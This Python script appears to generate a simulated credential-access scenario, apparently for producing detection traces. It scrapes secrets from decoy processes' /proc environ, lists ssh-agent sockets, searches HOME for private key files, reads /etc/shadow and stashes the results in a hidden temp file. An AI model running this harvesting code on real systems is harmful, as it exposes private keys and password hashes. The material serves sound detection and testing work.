#!/usr/bin/python3
# family: credential-access
# needs: keys
# actors: python3.*
"""Scraping secrets from processes and files: the environ and cmdline of running processes (here only
decoy children started by the scenario, so no real secret of the machine lands in a trace), private keys
anywhere under HOME, /etc/shadow. The decoys (sleep) are bystanders."""
import glob, os, random, re, subprocess, time
rng = random.Random(int(os.environ["PG_SEED"]))
decoys = [subprocess.Popen(["sleep", "5"], env={"DB_PASSWORD": "fake%d" % rng.randint(0, 9999),
                                               "API_TOKEN": "t%d" % i}) for i in range(rng.randint(1, 4))]
time.sleep(0.1)
secret = re.compile(rb"(PASS|TOKEN|SECRET|KEY)[A-Z_]*=[^\0]+")
found = []
for d in decoys:
    for part in ("environ", "cmdline", "status"):
        try:
            with open(f"/proc/{d.pid}/{part}", "rb") as f:
                found += secret.findall(f.read())
        except OSError:
            pass
found += glob.glob("/tmp/ssh-*/agent.*")
for path in glob.glob(os.path.join(os.environ["HOME"], "**", "*"), recursive=True):
    if os.path.isfile(path):
        with open(path, "rb") as f:
            if b"PRIVATE KEY" in f.read(4096):
                found.append(path)
if rng.random() < 0.8:
    with open("/etc/shadow", "rb") as f:
        found.append(f.read())
with open(os.path.join(os.environ["TMPDIR"], ".s%d" % rng.randint(0, 999)), "w") as f:
    f.write(repr(found)[:100000])
for d in decoys:
    d.kill(); d.wait()
